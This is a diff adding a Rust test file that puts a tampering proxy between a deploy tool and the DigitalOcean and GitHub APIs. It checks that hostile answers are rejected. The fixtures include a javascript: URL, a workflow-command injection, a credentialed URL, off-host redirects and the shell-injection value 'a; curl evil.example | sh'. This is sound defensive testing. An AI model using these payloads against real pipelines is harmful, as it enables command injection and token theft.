@@ -1,0 +1,147 @@
+//! An API, or what answers in its place, that means harm: what it says is checked before it is passed on.
+
+use std::sync::atomic::{AtomicBool, Ordering};
+
+use axum::body::Body;
+use axum::response::Response;
+
+use crate::harness::{Answer, Between, Tester, run};
+
+/// Every answer with `from` replaced by `to`.
+fn replaced(from: String, to: &'static str) -> Answer {
+    Answer::Changed(Box::new(move |text| text.replace(&from, to)))
+}
+
+#[tokio::test]
+async fn an_address_of_another_form_reaches_no_output_and_no_link() {
+    for evil in [
+        "javascript:alert(document.domain)//",
+        "https://shop.example\\n::set-output name=status::ready",
+        "https://me:secret@shop.example",
+    ] {
+        run(async |t: &mut Tester| {
+            t.open_pr(7).await;
+            t.preview(7).await.succeeds();
+            let base = t.sandbox.url("DIGITALOCEAN_API_URL");
+            let url = t.app("shop-pr-7").await["live_url"].as_str().unwrap().to_owned();
+            let between = Between::start(&base, move |_, _| replaced(url.clone(), evil)).await;
+            let status = t
+                .command(["status", "--pr", "7"])
+                .env("DIGITALOCEAN_API_URL", &between.url())
+                .await;
+            assert_eq!(status.output("url"), "", "{status}");
+            assert_eq!(status.stdout.matches("::set-output").count(), 0);
+            status.does_not_say("javascript:").does_not_say("secret@");
+        })
+        .await;
+    }
+}
+
+#[tokio::test]
+async fn the_comments_address_is_githubs_or_none() {
+    run(async |t: &mut Tester| {
+        t.open_pr(7).await;
+        let between = Between::start(&t.sandbox.url("GITHUB_API_URL"), |_, path| {
+            if path.contains("/comments") {
+                return Answer::Changed(Box::new(|text| {
+                    text.replace("\"html_url\":\"http", "\"html_url\":\"javascript:http")
+                }));
+            }
+            Answer::Changed(Box::new(|text| text))
+        })
+        .await;
+        let preview = t.preview(7).env("GITHUB_API_URL", &between.url()).await;
+        preview.succeeds();
+        assert_eq!(preview.output("comment-url"), "", "{preview}");
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn an_identifier_that_is_more_than_one_word_is_no_output() {
+    run(async |t: &mut Tester| {
+        t.open_pr(7).await;
+        t.preview(7).await.succeeds();
+        let id = t.app("shop-pr-7").await["id"].as_str().unwrap().to_owned();
+        let between = Between::start(&t.sandbox.url("DIGITALOCEAN_API_URL"), move |_, _| {
+            replaced(format!("\"{id}\""), "\"a; curl evil.example | sh\"")
+        })
+        .await;
+        let status = t
+            .command(["status", "--pr", "7"])
+            .env("DIGITALOCEAN_API_URL", &between.url())
+            .await;
+        assert_eq!(status.output("app-id"), "", "{status}");
+    })
+    .await;
+}
+
+fn redirect(status: u16, to: &str) -> Answer {
+    let answer = Response::builder().status(status).header("location", to);
+    Answer::Instead(answer.body(Body::empty()).unwrap())
+}
+
+#[tokio::test]
+async fn digitalocean_sends_no_request_to_another_host_and_no_answer_from_there_is_believed() {
+    run(async |t: &mut Tester| {
+        let thief = Between::start("http://127.0.0.1:1", |_, _| {
+            unreachable!("the token and the spec went elsewhere")
+        })
+        .await;
+        for method in ["GET", "POST"] {
+            let elsewhere = thief.url();
+            let between = Between::start(&t.sandbox.url("DIGITALOCEAN_API_URL"), move |asked, path| match asked {
+                _ if asked == method => redirect(307, &format!("{elsewhere}{path}")),
+                _ => Answer::Changed(Box::new(|text| text)),
+            })
+            .await;
+            let deploy = t.deploy().env("DIGITALOCEAN_API_URL", &between.url()).await;
+            deploy
+                .fails_with(3)
+                .says("307, but a redirect to `127.0.0.1` instead of JSON");
+        }
+        assert_eq!(t.app_names().await, Vec::<String>::new());
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn github_may_redirect_within_its_host_and_nowhere_else() {
+    run(async |t: &mut Tester| {
+        let base = t.sandbox.url("GITHUB_API_URL");
+        // Every request is sent to the same place once more, as a renamed repository's is to another of the host.
+        let redirected = AtomicBool::new(false);
+        let renamed = Between::start(&base, move |method, path| {
+            if redirected.fetch_xor(true, Ordering::Relaxed) {
+                return Answer::Changed(Box::new(|text| text));
+            }
+            redirect(if method == "GET" { 301 } else { 307 }, path)
+        })
+        .await;
+        t.deploy().env("GITHUB_API_URL", &renamed.url()).await.succeeds();
+
+        let elsewhere = Between::start(&base, |_, path| redirect(302, &format!("http://localhost:1{path}"))).await;
+        let refused = t.deploy().env("GITHUB_API_URL", &elsewhere.url()).await;
+        refused.says("302, but a redirect to `localhost` instead of JSON");
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn an_answer_without_an_end_ends_the_request_and_not_the_runner() {
+    run(async |t: &mut Tester| {
+        let endless = |_: &str, _: &str| {
+            let piece = vec![b' '; 1 << 20];
+            let pieces = futures_util::stream::repeat_with(move || Ok::<_, std::io::Error>(piece.clone()));
+            Answer::Instead(Response::new(Body::from_stream(pieces)))
+        };
+        for variable in ["DIGITALOCEAN_API_URL", "GITHUB_API_URL"] {
+            let between = Between::start(&t.sandbox.url(variable), endless).await;
+            let deploy = t.deploy().env(variable, &between.url()).await;
+            deploy.says("200, but more than 32 MiB instead of JSON");
+            assert_ne!(deploy.exit_code(), Some(0), "{deploy}");
+        }
+        assert_eq!(t.app_names().await, Vec::<String>::new());
+    })
+    .await;
+}
